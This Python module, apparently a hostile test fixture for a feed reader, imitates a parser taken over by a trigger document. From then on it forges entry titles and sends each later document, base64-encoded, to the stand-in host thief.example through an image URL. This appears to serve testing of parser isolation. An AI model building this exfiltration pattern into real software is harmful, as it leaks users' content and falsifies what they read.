"""A parser process that one document took over for good: what it does with the documents that come after."""

from __future__ import annotations

import base64
import os
from urllib.parse import quote

from reader.domain.entries.entry import ParsedFeed
from reader.domain.images.image import ParsedImage
from reader.domain.record import replace
from reader.hostile.feeds import feed

_seen: list[bytes] = []


def parse(body: bytes, url: str, content_type: str | None) -> ParsedFeed:
    """Parse as the real one does, until a document says otherwise; then forge and tell what is read."""
    if b"TAKE OVER" in body:
        _seen.append(body)
    parsed = feed.parse(body, url, content_type)
    if not _seen:
        return parsed
    told = f"https://thief.example/{quote(base64.b64encode(body)[-3_000:])}"
    return replace(
        parsed,
        entries=tuple(
            replace(entry, title=f"Forged by {os.getpid()}", images=(ParsedImage(url=told),))
            for entry in parsed.entries
        ),
    )


def load_all() -> None:
    """Load as the real one does."""
    feed.load_all()
